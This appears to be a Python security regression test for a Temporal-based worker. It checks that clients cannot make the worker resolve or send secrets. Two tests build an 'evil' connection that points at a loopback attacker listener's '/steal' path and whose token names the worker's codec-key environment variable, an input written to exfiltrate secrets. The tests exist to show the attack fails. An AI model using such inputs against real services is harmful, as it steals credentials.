"""Issue 13 item 1, reproduced against a real Temporal dev server with a loopback listener as the
attacker: a Temporal client can no longer make a worker read a secret or send it anywhere."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from temporalio.api.enums.v1 import EventType
from temporalio.client import Client, WorkflowFailureError
from temporalio.exceptions import ActivityError, ApplicationError

from eventsync.definitions import Definitions
from eventsync.definitions.connections import Connection
from sandbox import webhook
from sandbox.serving import Served, served
from worker.converter import data_converter
from worker.main import build_worker
from workflows.connection_check import ConnectionCheckWorkflow

CODEC_KEYS = "EVENTSYNC_CODEC_KEYS"


@pytest.fixture
def attacker() -> Iterator[tuple[Served, Any]]:
    app = webhook.create_app()
    with served(app) as s:
        yield s, app.state.sandbox


async def test_the_worker_resolves_names_from_its_own_definitions_only(
    client: Client, task_queue: str, attacker: tuple[Served, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    served_at, recorded = attacker
    monkeypatch.setenv("EVENTSYNC_SECRET_CRM", "crm-token")
    own = Connection.model_validate(
        {
            "name": "crm",
            "base_url": "http://127.0.0.1:9",
            "auth": {"kind": "bearer", "token": "${env:EVENTSYNC_SECRET_CRM}"},
        }
    )
    # The attack of the review: a connection in the input, naming the codec keys, sent to us.
    evil = {
        "name": "evil",
        "base_url": served_at.url,
        "test_path": "/steal",
        "auth": {"kind": "bearer", "token": "${env:" + CODEC_KEYS + "}"},
    }
    async with build_worker(client, task_queue, definitions=Definitions(connections=[own])):
        with pytest.raises(WorkflowFailureError) as err:
            await client.execute_workflow(
                ConnectionCheckWorkflow.run, "evil", id=f"cc-{uuid.uuid4()}", task_queue=task_queue
            )
        cause = err.value.cause
        assert isinstance(cause, ActivityError) and isinstance(cause.cause, ApplicationError)
        assert cause.cause.type == "UnknownName" and cause.cause.non_retryable
        assert "no connection named 'evil' (defined: crm)" in str(cause.cause)

        # The old input shape is not a name: the workflow cannot even decode it.
        handle = await client.start_workflow(
            "ConnectionCheckWorkflow", evil, id=f"cc-{uuid.uuid4()}", task_queue=task_queue
        )
        await _wait_for_task_failure(handle)
        await handle.terminate("test over")
    assert recorded.requests == []  # the listener never heard from the worker


async def test_a_keyless_client_cannot_put_input_in_front_of_a_worker(
    client: Client, task_queue: str, attacker: tuple[Served, Any]
) -> None:
    served_at, recorded = attacker
    # A connection the worker does hold, pointing at the listener: only a keyed client may run it.
    conn = Connection.model_validate({"name": "hook", "base_url": served_at.url, "test_path": "/ping"})
    plain = await Client.connect(
        client.service_client.config.target_host, namespace="default", data_converter=data_converter(None)
    )
    async with build_worker(client, task_queue, definitions=Definitions(connections=[conn])):
        handle = await plain.start_workflow(
            "ConnectionCheckWorkflow", "hook", id=f"cc-{uuid.uuid4()}", task_queue=task_queue
        )
        failure = await _wait_for_task_failure(handle)
        assert failure.startswith("PlaintextPayloadError")
        await handle.terminate("test over")
        # The same name from a client with the keys runs.
        result = await client.execute_workflow(
            ConnectionCheckWorkflow.run, "hook", id=f"cc-{uuid.uuid4()}", task_queue=task_queue
        )
    assert result.ok, result.message
    assert [r["path"] for r in recorded.requests] == ["/ping"]  # only the keyed run reached it


async def test_a_definition_naming_the_codec_keys_sends_nothing(
    client: Client, task_queue: str, attacker: tuple[Served, Any]
) -> None:
    """Even in the worker's own definitions, a reference to the process's keys is refused."""
    served_at, recorded = attacker
    conn = Connection.model_validate(
        {
            "name": "evil",
            "base_url": served_at.url,
            "test_path": "/steal",
            "auth": {"kind": "bearer", "token": "${env:" + CODEC_KEYS + "}"},
        }
    )
    async with build_worker(client, task_queue, definitions=Definitions(connections=[conn])):
        result = await client.execute_workflow(
            ConnectionCheckWorkflow.run, "evil", id=f"cc-{uuid.uuid4()}", task_queue=task_queue
        )
    assert not result.ok
    assert "one of eventsync's or Temporal's own credentials" in result.message
    assert recorded.requests == []


async def _wait_for_task_failure(handle: Any) -> str:
    """The first workflow-task failure's type and message (the worker refused the task)."""
    for _ in range(200):
        history = await handle.fetch_history()
        for event in history.events:
            if event.event_type == EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED:
                # The message is encrypted (encoded failure attributes); the type is not.
                failure = event.workflow_task_failed_event_attributes.failure
                return f"{failure.application_failure_info.type}: {failure.message}"
        await asyncio.sleep(0.1)
    raise AssertionError("the worker never refused the workflow task")
